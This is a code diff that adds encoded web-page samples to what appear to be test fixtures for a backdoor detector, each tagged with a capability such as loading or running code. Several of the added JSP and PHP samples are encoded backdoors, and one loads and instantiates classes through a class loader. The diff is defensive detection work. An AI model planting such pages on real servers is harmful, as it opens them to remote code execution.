@@ -18,6 +18,12 @@ export const fourthRound: readonly BackDoorPage[] = [
     parameter: 'q',
     text: '=4TJg0HI7kCKk5WRuU2cu9GczVmUgsTKi4WahdWYgUmbvRmIoUGdpJ3VuU2cu9GczVmUgsTKiUmbvRmIoUGdpJ3VuU2cu9GczVmUgsTK0V3boUGdpJ3VuU2cu9GczVmUgsTKiUmZhNnb1JCIsUGZvNGKsFmdlBSPgQXdvBichZHI7BSKsxWduBSPhASZk92YoAiZpByOdt2WtVGdJ5CdzVWdxVmUg0DIlR2bjBichZHI7UmclhGI0ZWZsBSZyFGIztmbhxmYg8mbg8yLgsjIxJCI9AyagIXY2ByOx0CI9AyclJXawhXRuU2cu9GczVmUgUCP+UCIiQHcpJ3YzpkI9U2ZhV3ZuFGTgU2ZhBFIAVCP',
   },
+  {
+    name: 'jsp-own-addresses.jsp',
+    capability: 'loads-code',
+    parameter: null,
+    text: '==gPlAyOpgSZj5WY0NnbJdXZu5SKiIkLhJCKzNXYsNEZh9GbukSfgUHI7BSXbxkUVBydl5GKyVGZh9GTzNXYsNETSVFI3VmbgsTK9BSfgsTfg0HI7kiYo0WYlJHdTRXdw5WS5FmcyFUZ0lnQgcXZuBibyVHdlJHI7BSKo0WYlJHdTRXdw5WS0V2Zg0WYlJHdTRXdw5WSgMWasJWdwBSf7BSKoQ3Yl5mbvNGIkl2b2ByYpxmY1BHI7BSKhhibvlGdjVmbu92QMJVVgcXZuBibyVHdlJHI7BSKhBCTSVFKu9Wa0NWZu52bD5WZw9GIu9Wa0NWZu52bDxkUVBCZlR3YlR3byBHI7BSKoIXZsRmbhhUbhVmc0NFTSVFI3VmbgwiIvICIsETLgwCbsVnbgwiItVWbigCTSVFI3Vmbg0DI1BCTSVFI7kSKignIoIXZ0VWbhJXYQRXaulEdldmLu9Wa0F2YpxGcwFGKyVmZmVnQlR2bjVGZukCKyVGZvNWZERjNFNVQC5yYzlWbu4WdzBydl5GI9AiYg01WlRXeiBCbh5WamBSJ84TJgIiKu8WauEmdhpGLq4Cdl5mLhZXYqJSP0J3bw1WagU2ZhBHIAVCP',
+  },
 ];
 
 export const doubtfulFourth: readonly { readonly name: string; readonly capability: Capability; readonly text: string }[] = [
@@ -46,6 +52,11 @@ export const doubtfulFourth: readonly { readonly name: string; readonly capabili
     capability: 'writes-files',
     text: '=4DdwlmcjN3L80HI7kSZ1JHdgwSKiQHe05SYvcWbp9ifigCa0FGUwFWTuIXZ2JXZTBCLpIyZpZmbvNmLiV2dv4nIogGdhBFch1kLyVmdyV2UokHcvNkLlxWaG5yTJ5SblR3c5NFI7BSKlBycnJXQ05WZ2VEIsMHI0NWZqJ2bo82RgQWavZnPiIXZ2JXZzJSP0Fmb1JHI0BXayN2c8ogPlAiIjMkI9U2ZhV3ZuFGTgU2ZhBFIAVCP',
   },
+  {
+    name: 'php-reads-its-own-lines.php',
+    capability: 'runs-code',
+    text: '==wOpgSZy92YTBydl5mC9BSfgsjIiAiOgkSKdFzWtRCKuVGbyR3coIHajByPgkSXxsVbkgCdlN3cpBibyVHdlJHI7kSbkACL39mckACLi8CJpsCIo8iIog2Y0FWbfdWZyBHI7BSK39mckgiZvBibvlGdj5WdmBSfgsTKiIGJiACLiICKhRCIuJXd0Vmcg0HI7YHJg0jLgIGJgU2csVGI7YHJg0jLgEGJgkSOgwDIpRCKgYWagsTK39mckgiZv5TLzlGa0RCI9AidkAyegkydvJHJg4TPgkGJgMXYgM3dvJHJoACajFWZy9mZgsjIiASPgIGJgsjIiASPgEGJgsTKf9VRMlkRf9FKlxWamBSPgM3dvJHJgsHIpgCdjVnc0NnbvN2XfBibvlGdj5WdmByegUmcvN2UgM3chx2YKAHaw9DP',
+  },
 ];
 
 export const ordinaryFourth: readonly { readonly name: string; readonly text: string }[] = [
@@ -68,5 +79,13 @@ export const ordinaryFourth: readonly { readonly name: string; readonly text: st
   {
     name: 'aspx-copies-within.aspx',
     text: '+QHcpJ3Yz9CP9ByOpkCKn5WayR3UvRlLoR3ZuVGTukSbhVmc0NFd1BnbJ5CdzVWdxVmUowGbBhSZ0lmcX5SZz52bwNXZSByegkSZgM3ZyFEduVmdFBCLzBCdjVmai9GKkF2bM9VZnFGUgQWavZHI9BSfgsTKokXYyJXQvRlLtBibyVHdlJHI7kSbo8GV5B3bD5SbvJnZgsHIpkCKtFWZyR3U5J3btVWTu8USu0WZ0NXeTBydl5GI9ASbgIXY2hCIn5WazVHI7BSKt9mcmBSbhVmc0NlLPlkLtVGdzl3UowGbBBSXbVGd5JmPiIXZ2JXZzJSP0Fmb1JHI0BXayN2c8ogPlAiIjMkI9U2ZhV3ZuFGTgU2ZhBFIAVCP',
+  },
+  {
+    name: 'php-lists-its-own-lines.php',
+    text: '7kib39GazRCK39GakAyboNWZgsjItlmc0JCI9AydvhGJg0HI7kydvJHJoMnchh2YsFWajVGczxWb0hGI94CIud3boNHJgsHIpc3byRCIzFGIzd3byRCKgg2YhVmcvZGI7IiIg0DIud3boNHJgsTKf9VRMlkRf9FKlxWamBSPgM3dvJHJKAHaw9DP',
+  },
+  {
+    name: 'jsp-own-address-read.jsp',
+    text: '==gPlAyOpkCKoRXYQRXZn5SdoQnbpJHcuQXdvByOpICbthnLiJCIsU2chJGKMJVVgcXZuBSPgUHIMJVVgsTKi8SYvUGbw1WY4VmLuVmdhhmLslWYt9yL6MHc0RHaigCTSVFI3Vmbg0DIlNXYiBCTSVFIlwjPlAiIq4Cdl5mLhZXYqJSP0J3bw1WagU2ZhBHIAVCP',
   },
 ];
